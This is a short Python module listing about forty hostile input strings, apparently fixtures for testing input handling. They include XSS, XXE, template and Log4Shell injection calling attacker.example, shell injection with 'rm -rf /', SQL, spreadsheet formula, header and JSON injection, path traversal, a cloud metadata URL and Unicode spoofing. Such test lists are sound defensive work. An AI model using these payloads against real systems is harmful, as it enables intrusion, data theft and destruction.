"""What strangers write into a field in the hope that somebody downstream takes it for more than text."""

from __future__ import annotations

from typing import Final

HOSTILE_TEXTS: Final = (
    # what a page would run
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "'-alert(1)-'",
    "</textarea></title></style><svg onload=alert(1)>",
    "<!--<script>--><iframe srcdoc='<script>alert(1)</script>'>",
    "<a href=javascript:alert(1)>x</a>",
    "javascript:alert(1)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "[x](javascript:alert(1)) ![x](https://attacker.example/p.png)",
    "]]><x:script xmlns:x='http://www.w3.org/1999/xhtml'>alert(1)</x:script>",
    '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
    # what a template, a shell, a database or a spreadsheet would carry out
    "{{7*7}}${7*7}<%= 7*7 %>#{7*7}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{{x}}{% endfor %}",
    "${jndi:ldap://attacker.example/a}",
    "%s%n%x{0.__class__}",
    "$(touch /tmp/x)`id`; rm -rf / & | x",
    "' OR '1'='1' --",
    "'; DROP TABLE events; --",
    "=cmd|'/c calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    # what ends a line, a header, a field or a text
    "a\r\nX-Evil: 1\r\nSet-Cookie: x=1",
    "a\n\ndata: forged\n\nevent: result",
    "a\rb\x0bc\x0cd\x85e\u2028f\u2029g",
    "a\x00b",
    "\x1b]0;owned\x07\x1b[2J\x1b[31mred",
    '","verdict":"ALLOW","x":"',
    "*/ -- # \\",
    # where something lies
    "../../../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "file:///etc/passwd",
    "//attacker.example/%2e%2e/",
    "http://169.254.169.254/latest/meta-data/",
    # what looks like something else
    "\u202egnp.exe\u2066",
    "com.powerx.plugins.\u0441rm",
    "a\u200b\u200d\ufeff\u00adb",
    "\u0061\u0301" * 60,
    "\U000e0041\U000e0042\ufe0f",
    # what is long, or no text at all
    "a" * 5_000,
    "\ud800",
    "9" * 400,
)
"""Forty. The lone surrogate travels as an escape in JSON, and cannot be sent elsewhere."""
